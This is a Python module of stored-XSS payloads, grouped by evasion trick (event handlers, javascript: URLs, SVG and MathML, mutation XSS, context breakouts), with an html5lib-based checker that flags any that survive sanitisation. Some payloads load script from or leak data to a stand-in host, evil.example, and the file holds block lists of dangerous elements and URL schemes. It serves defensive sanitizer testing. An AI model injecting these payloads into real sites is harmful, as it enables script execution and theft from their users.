"""Stored-XSS payloads, grouped by trick, and a check that none survived into a page.

The corpus follows the classic filter-evasion lists (OWASP's XSS cheat sheet, PortSwigger's)
and the mutation-XSS cases that broke DOMPurify and browsers' own serialisers: markup that
parses one way, serialises, and parses another way the second time.
"""

from __future__ import annotations

import json
import re
from urllib.parse import urlsplit

import html5lib

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script/xss src=//evil.example/xss.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "</p><script>alert(1)</script><p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><script>alert(1)</script></noscript>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<a href="https://example.org/" onclick="alert(1)">link</a>',
    '<p onmouseover="alert(1)">hover</p>',
    '<time datetime="2024" onmouseover=alert(1)>now</time>',
    '<ol start="1" onclick="alert(1)"><li>x</li></ol>',
    "<frameset onload=alert(1)>",
    "<img src=x onerror  =  'alert(1)'>",
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<blockquote cite="javascript:alert(1)">quote</blockquote>',
    '<q cite="javascript:alert(1)">quote</q>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<video poster="javascript:alert(1)"></video>',
    '<img srcset="javascript:alert(1) 1x">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
]

SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">click</math>',
]

STYLES = [
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    '<DIV STYLE="background-image: url(&#1;javascript:alert(1))">x</DIV>',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</LI></UL>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<style>*{background:url(//evil.example/leak)}</style>",
]

# Mutation XSS: harmless as parsed, dangerous once serialised and parsed again.
MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><table><mi><mglyph><svg><mtext><style><img src onerror=alert(1)>",
    "<table><tr><td>a</td><svg><style><img src=x onerror=alert(1)></style></svg></tr></table>",
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "<![CDATA[<script>alert(1)</script>]]>",
]

# Breaking out of the context the text lands in: an attribute, a textarea, <title>,
# a JSON-LD block, a feed's CDATA.
BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '</script><img src=x onerror=alert(1)>{"a":"',
    "]]><script>alert(1)</script>",
    "<!--",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>'
    "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
]

PAYLOADS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_SCHEMES,
    *SVG_AND_MATHML,
    *STYLES,
    *MUTATION,
    *BREAKOUTS,
]

# Payloads that are inert even unsanitized, once parsed as browsers parse (they target naive
# regex filters, old browsers or other charsets); kept because the sanitizer must not turn
# them into something live.
HARMLESS_AS_PARSED = frozenset(
    {
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\x00>alert(1)</script>",
        "<img src=`x`onerror=alert(1)>",
        '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    }
)

# Elements a payload may try to smuggle in; the pages' own scripts are told apart by
# ``own_script``. <svg> itself is not here: the admin draws its icons with it, and what
# would make an SVG dangerous (scripts, handlers, script URLs, animations) is.
FORBIDDEN_ELEMENTS = frozenset(
    {
        "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "template",
        "set", "animate", "animatemotion", "animatetransform", "foreignobject", "handler",
        "maction", "mglyph", "isindex", "xss", "marquee", "video", "audio",
        "noscript", "xmp", "noembed", "noframes", "plaintext", "listing",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "cite", "background", "poster", "srcset",
        "data", "ping", "xlink:href", "lowsrc", "dynsrc", "longdesc", "manifest",
    }
)  # fmt: skip
# <script> elements browsers never run: JSON for structured data and for the admin's widgets.
DATA_BLOCKS = frozenset({"application/ld+json", "application/json"})
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
_IGNORED_IN_SCHEMES = re.compile(r"[\x00-\x20]")


def scheme_of(value: str) -> str:
    """The URL as a browser reads it for a scheme: control characters and spaces dropped."""
    return _IGNORED_IN_SCHEMES.sub("", value).lower()


def own_script(element, allowed_nonce: str | None = None) -> bool:
    """A script the page itself carries: a same-site file, a JSON-LD block, or a nonce."""
    src = element.get("src")
    if src is not None:
        parts = urlsplit(src)
        return not parts.scheme and not parts.netloc and src.startswith("/")
    if element.get("type") in DATA_BLOCKS:
        return True
    return allowed_nonce is not None and element.get("nonce") == allowed_nonce


def parse(markup: str):
    """Parse as a browser does (the WHATWG algorithm), whole document or fragment."""
    return html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)


def local_name(tag) -> str:
    if not isinstance(tag, str):  # comments and processing instructions
        return ""
    return tag.rsplit("}", 1)[-1].lower()


def problems(markup: str, *, nonce: str | None = None) -> list[str]:
    """Everything in ``markup`` (a page or a fragment) through which script could run or
    a payload could restyle, frame or redirect the page. Empty means clean."""
    found = []
    for element in parse(markup).iter():
        name = local_name(element.tag)
        if not name:
            continue
        if name in FORBIDDEN_ELEMENTS:
            found.append(f"<{name}> element")
        if name == "script":
            if not own_script(element, nonce):
                found.append(f"script {element.attrib} {element.text!r}")
            elif element.get("type") in DATA_BLOCKS:
                text = element.text or ""
                if "<" in text:
                    found.append(f"'<' inside JSON-LD: {text[:80]!r}")
                json.loads(text)  # still valid JSON: nothing broke out and back in
        if name == "meta" and element.get("http-equiv"):
            found.append(f"<meta http-equiv={element.get('http-equiv')!r}>")
        if name == "link" and scheme_of(element.get("href", "")).startswith(DANGEROUS_SCHEMES):
            found.append(f"<link href={element.get('href')!r}>")
        for attribute, value in element.attrib.items():
            attribute = local_name(attribute) if "}" in attribute else attribute.lower()
            if attribute.startswith("on"):
                found.append(f"<{name} {attribute}=...> event handler")
            if (attribute in URL_ATTRIBUTES or attribute.endswith(":href")) and scheme_of(
                value
            ).startswith(DANGEROUS_SCHEMES):
                found.append(f"<{name} {attribute}={value!r}>")
            if attribute == "style" and re.search(
                r"expression|url\(|javascript|behavior", value, re.I
            ):
                found.append(f"<{name} style={value!r}>")
    return found
